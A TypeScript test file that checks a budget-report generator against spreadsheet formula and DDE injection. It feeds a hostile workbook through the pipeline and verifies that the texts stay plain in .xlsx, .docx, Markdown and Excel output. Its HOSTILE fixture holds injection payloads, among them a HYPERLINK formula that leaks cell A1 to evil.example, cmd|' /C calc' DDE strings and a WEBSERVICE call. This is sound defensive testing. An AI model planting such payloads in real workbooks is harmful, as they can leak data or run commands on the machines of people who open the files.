/**
 * Workbook content cannot do harm on the way out (docs/design.md §6), end to end from a hostile workbook: labels,
 * reasons and 基本情况 texts starting with = + - @ (formula / DDE injection attempts).
 * - .xlsx report sheets (file host): every such text is a string cell, no formula but the writer's own
 *   internal HYPERLINK("#'sheet'!cell") links; the user's own sheets read back exactly as before;
 * - .docx and Markdown: the text appears verbatim as text (no field code, no hyperlink);
 * - Excel host on the recording fake, over a sequence of actions (read, write twice, highlight, clear,
 *   save settings, select): report texts are written as text ("@" format, no formula) and the user's
 *   cells keep their values, formulas and formats throughout, and their fills once highlights are cleared.
 * (The file host's and Excel host's own unit tests cover hand-made specs; this drives the real pipeline.)
 */
import JSZip from "jszip";
import type { Grid } from "../../src/core/grid";
import { analyze } from "../../src/core/pipeline";
import { composeReport } from "../../src/core/report";
import { createExcelHost } from "../../src/hosts/excel";
import { readWorkbook } from "../../src/hosts/file/readWorkbook";
import { appendSheetsToXlsx } from "../../src/hosts/file/writeWorkbook";
import {
  buildWorkbook,
  budgetSheet,
  profileSheet,
  type FixtureCellInput,
  type SheetFixture,
} from "../fixtures/workbook";
import { renderDocx, renderMarkdown, reportSheetSpecs } from "../../src/render";
import type { SheetSpec } from "../../src/core/sheetSpec";
import { FakeExcel, type FakeCell, type FakeSheetSpec } from "../fakes/excel";
import { changningProfile, changningSheet } from "../fixtures/specs/changning-2023";
import { rowOfLabel } from "../fixtures/bad/corpus";

const HOSTILE = {
  project: '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
  reason: "+cmd|' /C calc'!A0",
  receptionReason: "@SUM(1+1)*cmd|' /C calc'!A0",
  capitalReason: "-2+3+cmd|' /C calc'!A0",
  functions: "=1+1 主要职能（测试）",
  issues: '@当前问题：=WEBSERVICE("http://evil.example")',
};
const STARTS_LIKE_FORMULA = /^[=+\-@]/;

/** The sample 基础数据表 + 基本情况 with hostile texts in labels, reasons and report texts. */
function hostileWorkbook(): SheetFixture[] {
  const sheet = budgetSheet({ ...changningSheet, formulas: true, notes: undefined });
  const set = (label: string, column: number, value: FixtureCellInput) => {
    const row = sheet.rows[rowOfLabel(sheet, label)];
    (Array.isArray(row) ? row : row.cells)[column] = value;
  };
  set("工会日常工作经费", 5, HOSTILE.reason);
  set("公务接待费", 5, HOSTILE.receptionReason);
  set("办公设备购置", 5, HOSTILE.capitalReason);
  set("工会日常工作经费", 0, { value: HOSTILE.project, indent: 3 });
  const profile = changningProfile.map(([key, text]): [string, string] =>
    key === "主要职能"
      ? [key, HOSTILE.functions]
      : key === "存在的问题及原因分析"
        ? [key, HOSTILE.issues]
        : [key, text]
  );
  return [sheet, profileSheet(profile)];
}

let original: Uint8Array;
let grids: Grid[];
let specs: SheetSpec[];
let composed: ReturnType<typeof composeReport>;

beforeAll(async () => {
  original = await buildWorkbook({ sheets: hostileWorkbook() });
  grids = await readWorkbook(original);
  const analysis = analyze(grids);
  composed = composeReport(analysis);
  specs = reportSheetSpecs(composed, analysis.changes, analysis.findings);
});

/** Every text cell in the report sheet specs that starts like a formula. */
function formulaLikeTexts(): { sheet: string; text: string }[] {
  const out: { sheet: string; text: string }[] = [];
  for (const spec of specs)
    for (const row of spec.rows)
      for (const cell of row.cells ?? [])
        if (cell && typeof cell.value === "string" && STARTS_LIKE_FORMULA.test(cell.value))
          out.push({ sheet: spec.name, text: cell.value });
  return out;
}

test("the hostile texts reach the report sheets, starting with + - @", () => {
  const texts = formulaLikeTexts().map((t) => t.text);
  // (Report paragraphs start with their own words or an indent, so "=" texts land mid-cell there; the
  // file host's and Excel host's unit tests write a leading "=" directly.)
  expect(texts).toEqual(
    expect.arrayContaining([HOSTILE.reason, HOSTILE.receptionReason, HOSTILE.capitalReason])
  );
});

describe(".xlsx written by the file host", () => {
  let output: Uint8Array;
  let zip: JSZip;
  let sheetXml: Map<string, string>;

  beforeAll(async () => {
    ({ bytes: output } = await appendSheetsToXlsx(original, specs));
    zip = await JSZip.loadAsync(output);
    const workbookXml = await zip.file("xl/workbook.xml")!.async("string");
    const rels = await zip.file("xl/_rels/workbook.xml.rels")!.async("string");
    sheetXml = new Map();
    for (const [, name, rid] of workbookXml.matchAll(
      /<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"/g
    )) {
      const target =
        new RegExp(`Id="${rid}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ??
        new RegExp(`Target="([^"]+)"[^>]*Id="${rid}"`).exec(rels)?.[1];
      const path = `xl/${target!.replace(/^\/?xl\//, "")}`;
      sheetXml.set(name, await zip.file(path)!.async("string"));
    }
  });

  test("formula-looking texts are string cells; the only formulas are internal links", async () => {
    const back = await readWorkbook(output);
    const reportNames = specs.map((s) => s.name);
    let checked = 0;
    for (const grid of back.filter((g) => reportNames.includes(g.sheet))) {
      for (const row of grid.rows)
        for (const cell of row) {
          if (!cell) continue;
          if (cell.formula !== undefined) {
            expect(cell.formula).toMatch(/^=HYPERLINK\("#'?[^"]*"/);
            expect(cell.formula).not.toMatch(/evil|cmd|WEBSERVICE/i);
          }
          if (typeof cell.value === "string" && STARTS_LIKE_FORMULA.test(cell.value)) {
            expect(cell.formula).toBeUndefined();
            checked++;
          }
        }
    }
    expect(checked).toBe(formulaLikeTexts().length);
    // And in the XML itself: no <f> holding any of the hostile texts.
    for (const name of reportNames) {
      const xml = sheetXml.get(name) ?? "";
      for (const [, f] of xml.matchAll(/<f>([^<]*)<\/f>/g))
        expect(f).not.toMatch(/evil|cmd|WEBSERVICE/);
    }
  });

  test("the user's sheets read back exactly as they were", async () => {
    const before = await readWorkbook(original);
    const after = await readWorkbook(output);
    for (const grid of before) expect(after.find((g) => g.sheet === grid.sheet)).toEqual(grid);
    expect(after.map((g) => g.sheet).slice(0, before.length)).toEqual(before.map((g) => g.sheet));
  });
});

test(".docx: the texts are plain runs — no field code, no hyperlink", async () => {
  const docx = await renderDocx(composed.report);
  const xml = await (await JSZip.loadAsync(docx)).file("word/document.xml")!.async("string");
  expect(xml).not.toMatch(/instrText|fldSimple|<w:hyperlink/);
  expect(xml).not.toMatch(/evil\.example"/); // only inside text, escaped
  const text = [...xml.matchAll(/<w:t[^>]*>([^<]*)<\/w:t>/g)].map((m) => m[1]).join("");
  const unescape = (s: string) =>
    s
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&amp;/g, "&");
  expect(unescape(text)).toContain(HOSTILE.project);
  expect(unescape(text)).toContain("=1+1 主要职能");
});

test("Markdown: the texts are kept verbatim (escaped only where Markdown needs it)", () => {
  const markdown = renderMarkdown(composed.report).replace(/\\([\\`*_{}[\]()#+\-.!|<>])/g, "$1");
  expect(markdown).toContain(HOSTILE.project);
  expect(markdown).toContain(HOSTILE.reason);
  expect(markdown).toContain("=1+1 主要职能");
});

describe("Excel host on the recording fake", () => {
  /** The grid as the fake's sheet spec: values, formulas and formats from the .xlsx the user has. */
  function fakeSpec(grid: Grid): FakeSheetSpec {
    const values = grid.rows.map((row) =>
      row.map((cell) => {
        if (!cell || cell.value === null) return null;
        const v = cell.value;
        return typeof v === "object" ? v.error : v;
      })
    );
    const formulas: Record<string, string> = {};
    const numberFormats: Record<string, string> = {};
    grid.rows.forEach((row, r) =>
      row.forEach((cell, c) => {
        const address = `${String.fromCharCode(65 + c)}${r + 1}`;
        if (cell?.formula) formulas[address] = cell.formula;
        if (cell?.numberFormat) numberFormats[address] = cell.numberFormat;
      })
    );
    return { name: grid.sheet, values, formulas, numberFormats, fills: { A1: "#FFFF00" } };
  }

  function snapshot(fake: FakeExcel, names: string[]): Record<string, [string, FakeCell][]> {
    const out: Record<string, [string, FakeCell][]> = {};
    for (const name of names) {
      const sheet = fake.sheet(name)!;
      out[name] = [...sheet.cells.entries()].map(([k, cell]) => [k, { ...cell }]);
    }
    return out;
  }

  const withoutFills = (snap: Record<string, [string, FakeCell][]>) =>
    Object.fromEntries(
      Object.entries(snap).map(([name, cells]) => [
        name,
        cells.map(([k, { fill: _fill, ...rest }]) => {
          void _fill;
          return [k, rest];
        }),
      ])
    );

  test("any sequence of actions leaves the user's cells as they were; report texts go in as text", async () => {
    const fake = new FakeExcel({ sheets: grids.map(fakeSpec) });
    const userSheets = grids.map((g) => g.sheet);
    const before = snapshot(fake, userSheets);
    const host = createExcelHost({ env: fake.env });

    const read = await host.readGrids();
    const analysis = analyze(read);
    const sheets = reportSheetSpecs(composeReport(analysis), analysis.changes, analysis.findings);
    const first = await host.writeSheets(sheets);
    expect(snapshot(fake, userSheets)).toEqual(before);
    const second = await host.writeSheets(sheets);
    expect(second).not.toEqual(first); // new names, never the same sheets overwritten
    expect(snapshot(fake, userSheets)).toEqual(before);

    const refs = analysis.findings.map((f) => f.ref).slice(0, 20);
    refs.push({ sheet: userSheets[0], address: "A1" });
    await host.highlight(refs);
    expect(withoutFills(snapshot(fake, userSheets))).toEqual(withoutFills(before));
    await host.clearHighlights();
    await host.saveSettings({ version: 1 } as never);
    await host.selectCell({ sheet: userSheets[0], address: "E12" });
    expect(snapshot(fake, userSheets)).toEqual(before);

    // Only fills were ever written to the user's sheets (highlights and their removal).
    const kinds = new Set(
      fake.writes.filter((w) => userSheets.includes(w.sheet)).map((w) => w.kind)
    );
    for (const kind of kinds) expect(kind).toMatch(/fill|highlight|select|activate/i);

    // Formula-looking report texts are text cells: "@" format, no formula.
    let seen = 0;
    for (const name of [...first, ...second]) {
      for (const cell of fake.sheet(name)!.cells.values()) {
        if (typeof cell.value === "string" && STARTS_LIKE_FORMULA.test(cell.value)) {
          expect(cell.formula).toBeUndefined();
          expect(cell.numberFormat).toBe("@");
          seen++;
        } else if (cell.formula) {
          expect(cell.formula).not.toMatch(/evil|cmd|WEBSERVICE/i);
        }
      }
    }
    expect(seen).toBe(formulaLikeTexts().length * 2);
  });
});
